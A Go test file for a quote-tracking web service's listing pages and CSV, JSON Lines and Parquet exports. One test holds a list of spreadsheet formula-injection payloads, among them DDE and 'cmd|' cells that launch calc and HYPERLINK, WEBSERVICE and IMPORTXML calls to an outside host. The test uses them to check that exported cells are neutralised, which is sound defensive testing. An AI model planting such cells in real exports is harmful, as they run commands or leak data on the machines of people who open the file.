package web

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"iter"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"tenor"
	"tenor/internal/race"
	"tenor/store"
)

// The number of quotes said, those listed over all pages, and the rows of each
// export are one number, and the order is the same. Copies that stand on one page are folded
// under the first of them: each page has the quotes that come next, and their heads in order.
func TestCountEqualsListEqualsFiles(t *testing.T) {
	h := handlerOf(t, seeded(t), Options{})
	for _, query := range []string{"", "stance=bullish", "q=small", "analyst=Ada+Quill&stance=fragile", "from=2025-06-01&to=2025-08-31", "speaker_type=official", "outlet=Copy+Cat+Finance", "q=nothing+like+this"} {
		var listed [][]string // of each page, heads first
		var heads []string
		count := 0
		total := -1
		for address := "/quotes?limit=7&" + query; address != ""; {
			doc := page(t, h, strings.TrimSuffix(address, "&"))
			n, _ := strconv.Atoi(strings.Fields(strings.ReplaceAll(doc.Find(".total strong").Text(), ",", ""))[0])
			if total >= 0 && n != total {
				t.Errorf("%q: the total changes from %d to %d", query, total, n)
			}
			total = n
			var here []string
			add := func(_ int, e *goquery.Selection) {
				here = append(here, strings.TrimPrefix(e.AttrOr("href", ""), "/quotes/"))
			}
			doc.Find(".quotes a[data-open]").Each(add)
			heads = append(heads, here...)
			doc.Find(".quotes .copied a").Each(add)
			listed = append(listed, here)
			count += len(here)
			address = doc.Find(".pager a[rel=next]").AttrOr("href", "")
		}
		rows, err := csv.NewReader(ask(t, h, "/quotes.csv?dialect=raw&"+query).Body).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var exported []string
		for _, row := range rows[1:] {
			exported = append(exported, row[0])
		}
		var lines []string
		for scan := bufio.NewScanner(ask(t, h, "/quotes.jsonl?"+query).Body); scan.Scan(); {
			var r tenor.Record
			if err := json.Unmarshal(scan.Bytes(), &r); err != nil {
				t.Fatal(err)
			}
			lines = append(lines, r.ID)
		}
		var typed []string
		_, table := readParquet(t, ask(t, h, "/quotes.parquet?"+query).Body.Bytes())
		for _, row := range table {
			typed = append(typed, row.QuoteID)
		}
		if total != count || total != len(exported) || !slices.Equal(exported, lines) || !slices.Equal(exported, typed) {
			t.Errorf("%q: %d quotes said, %d listed, %d in the CSV, %d in JSON Lines, %d in Parquet, or in another order", query, total, count, len(exported), len(lines), len(typed))
			continue
		}
		rest := exported
		for i, here := range listed {
			if want := slices.Sorted(slices.Values(rest[:len(here)])); !slices.Equal(slices.Sorted(slices.Values(here)), want) {
				t.Errorf("%q: page %d lists %v, the CSV has there %v", query, i, here, want)
			}
			rest = rest[len(here):]
		}
		if inOrder := slices.DeleteFunc(exported, func(id string) bool { return !slices.Contains(heads, id) }); !slices.Equal(inOrder, heads) {
			t.Errorf("%q: the list has %v, the CSV %v", query, heads, inOrder)
		}
	}
}

// What the chart counts on a day is what the page of that day lists and what the
// CSV says, every day, under every way of counting.
func TestVoicesListedAreVoicesCounted(t *testing.T) {
	h := handlerOf(t, seeded(t), Options{})
	for _, query := range []string{"", "subject=small-caps", "count=quotes", "count=articles", "window=30", "speaker_type=analyst&speaker_type=institution", "stance=fragile"} {
		rows, err := csv.NewReader(ask(t, h, "/timeline.csv?"+query).Body).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if last := rows[len(rows)-1][0]; last > "2025-10-20" {
			t.Errorf("%q: the series runs to %s, after today", query, last)
		}
		gap := 0
		for i, row := range rows[1:] {
			if row[1] == "0" {
				gap++
			}
			if i%(9*race.Nth(4)) != 0 {
				continue
			}
			doc := page(t, h, "/?day="+row[0]+"&"+query)
			if n := doc.Find("#voices > li").Length(); strconv.Itoa(n) != row[1] {
				t.Errorf("%q on %s: %s counted, %d listed", query, row[0], row[1], n)
			}
			big := doc.Find(".figures .big dd").Text()
			if hasNumber := row[5] != ""; hasNumber == strings.Contains(big, "no number") {
				t.Errorf("%q on %s: the page says %q and the CSV %q", query, row[0], big, row[5])
			}
		}
		if gap < 100 {
			t.Errorf("%q: the winter without voices is a gap of %d days", query, gap)
		}
	}
}

// formulas are cells that a spreadsheet would run, some only after it trimmed or joined
// what stands around them.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1\r\nx", "-2+3", "+1+cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!A0",
	"=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=HYPERLINK(\"https://elsewhere.example\")", "=HYPERLINK(\"https://elsewhere.example?x=\"&A1,\"here\")",
	"=IMPORTXML(\"https://elsewhere.example\",\"//a\")", "=IMPORTDATA(\"https://elsewhere.example\")", "=IMAGE(\"https://elsewhere.example/x.png\")",
	"=WEBSERVICE(\"https://elsewhere.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
	"+HYPERLINK(\"https://elsewhere.example\")", "-HYPERLINK(\"https://elsewhere.example\")", "@HYPERLINK(\"https://elsewhere.example\")",
	"= 1+1", "=\t1+1", "=-1", "=+1", "=@A1", "==1", "--1+1", "++1", "-(1+1)", "+A1", "-A1", "@A1", "=\"\"", "=A1,B1", "=\"a\"\"b\"", "=SUM(1;2)|x",
	"-", "+", "@", "=", "\t", "-1e5x", "=1\n=2", "+\u202e1", "=é", "\r\n=1",
}

// H14: no cell of the spreadsheet dialect is a formula, and every other format is exact.
func TestNoFormulaLeaves(t *testing.T) {
	if len(formulas) < 40 {
		t.Fatalf("%d payloads", len(formulas))
	}
	s := emptyStore(t)
	want := map[string]string{} // by the file that the article names
	for i, f := range formulas {
		a := tenor.Article{URL: "https://news.example/" + strconv.Itoa(i), Title: f, Outlet: f, Text: f + " x", Published: onDay("2025-09-18"), KnownAt: today}
		save(t, s, a, tenor.Quote{Spans: []tenor.Span{{0, len(f)}}, Kind: tenor.Direct, Speaker: f, SpeakerType: tenor.Analyst, Firm: f, Role: f, Stance: tenor.Neutral, Subject: "gold"})
		want[a.URL] = f
	}
	h := handlerOf(t, s, Options{})
	excel, err := csv.NewReader(ask(t, h, "/quotes.csv").Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(excel) != len(formulas)+1 || !strings.HasPrefix(excel[0][0], "\ufeff") {
		t.Fatalf("%d rows, first cell %q", len(excel), excel[0][0])
	}
	for _, row := range excel[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("a spreadsheet would run %q", cell)
			}
		}
	}
	exact := func(format, url string, cells ...string) {
		for _, cell := range cells {
			if cell != want[url] {
				t.Errorf("%s: %q became %q", format, want[url], cell)
			}
		}
	}
	raw := ask(t, h, "/quotes.csv?dialect=raw").Body.String()
	for url, f := range want { // not read back by encoding/csv, which makes a line end one byte
		cell := f
		if strings.ContainsAny(f, "\",\r\n") || f[0] == '\t' {
			cell = `"` + strings.ReplaceAll(f, `"`, `""`) + `"`
		}
		if row := "," + strings.Join([]string{cell, cell, cell, url}, ",") + ","; !strings.Contains(raw, row) {
			t.Errorf("the raw dialect lacks %q", row)
		}
	}
	for scan := bufio.NewScanner(ask(t, h, "/quotes.jsonl").Body); scan.Scan(); {
		var r tenor.Record
		if err := json.Unmarshal(scan.Bytes(), &r); err != nil {
			t.Fatal(err)
		}
		exact("JSON Lines", r.URL, r.Text(), r.Outlet, r.Title, r.Speaker, r.Firm, r.Role)
	}
	_, rows := readParquet(t, ask(t, h, "/quotes.parquet").Body.Bytes())
	if len(rows) != len(formulas) {
		t.Errorf("%d rows of Parquet", len(rows))
	}
	for _, r := range rows {
		exact("Parquet", r.URL, r.Quote, r.Outlet, r.Title, r.Analyst, r.Firm, r.Role)
	}
}

// An export that fails half-way must not look like a whole file.
func TestBrokenExportBreaksOff(t *testing.T) {
	server := httptest.NewServer(handlerOf(t, brokenStore{err: errors.New("disk gone")}, Options{}))
	defer server.Close()
	for _, path := range []string{"/quotes.csv", "/quotes.jsonl", "/quotes.parquet"} {
		answer, err := http.Get(server.URL + path)
		if err != nil {
			continue // broken off before the header: as good
		}
		var rows int
		scan := bufio.NewScanner(answer.Body)
		for scan.Scan() {
			rows++
		}
		answer.Body.Close()
		if scan.Err() == nil {
			t.Errorf("%s ends after %d rows as if whole", path, rows)
		}
	}
}

// endlessStore holds an export open until it is let go.
type endlessStore struct {
	Store
	begun, let chan struct{}
}

func (s endlessStore) Records(context.Context, tenor.Filter) iter.Seq2[tenor.Record, error] {
	return func(yield func(tenor.Record, error) bool) {
		s.begun <- struct{}{}
		<-s.let
	}
}

func TestOneExportAtATime(t *testing.T) {
	s := endlessStore{begun: make(chan struct{}), let: make(chan struct{})}
	h := handlerOf(t, s, Options{})
	done := make(chan int)
	go func() { done <- ask(t, h, "/quotes.csv").Code }()
	<-s.begun
	if w := ask(t, h, "/quotes.csv"); w.Code != http.StatusTooManyRequests || w.Header().Get("Retry-After") == "" {
		t.Errorf("a second export answers %d", w.Code)
	}
	close(s.let)
	if code := <-done; code != http.StatusOK {
		t.Errorf("the first export answers %d", code)
	}
	go func() { <-s.begun }()
	if w := ask(t, h, "/quotes.csv"); w.Code != http.StatusOK {
		t.Errorf("the next export answers %d", w.Code)
	}
}

// The store comes whole, with its size, and is opened by the same program.
func TestStoreFile(t *testing.T) {
	s := seeded(t)
	server := httptest.NewServer(handlerOf(t, s, Options{}))
	defer server.Close()
	answer, err := http.Get(server.URL + "/store.db")
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	data, err := io.ReadAll(answer.Body)
	if err != nil || answer.ContentLength != int64(len(data)) || answer.Header.Get("Content-Disposition") != `attachment; filename="tenor-store.db"` {
		t.Fatalf("%d bytes, %v (%v)", len(data), answer.Header, err)
	}
	path := filepath.Join(t.TempDir(), "copy.db")
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	again, err := store.Open(t.Context(), path, store.Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer again.Close()
	want, err1 := s.Totals(t.Context())
	got, err2 := again.Totals(t.Context())
	if err := errors.Join(err1, err2); err != nil || got != want {
		t.Errorf("%+v, want %+v (%v)", got, want, err)
	}
}

// fullStore has no room for a copy.
type fullStore struct{ Store }

func (fullStore) Snapshot(context.Context) (io.ReadCloser, int64, error) {
	return nil, 0, fmt.Errorf("copy /home/secret/t.db: %w", &tenor.NoRoomError{Need: 3e9, Free: 2e6})
}

func TestStoreFileNeedsRoom(t *testing.T) {
	w := ask(t, handlerOf(t, fullStore{}, Options{}), "/store.db")
	if w.Code != http.StatusInsufficientStorage || strings.TrimSpace(w.Body.String()) != "A copy of the store takes 3001 MB, and the disk has 2 MB free: free some space there, then try again." {
		t.Errorf("%d: %s", w.Code, w.Body)
	}
}
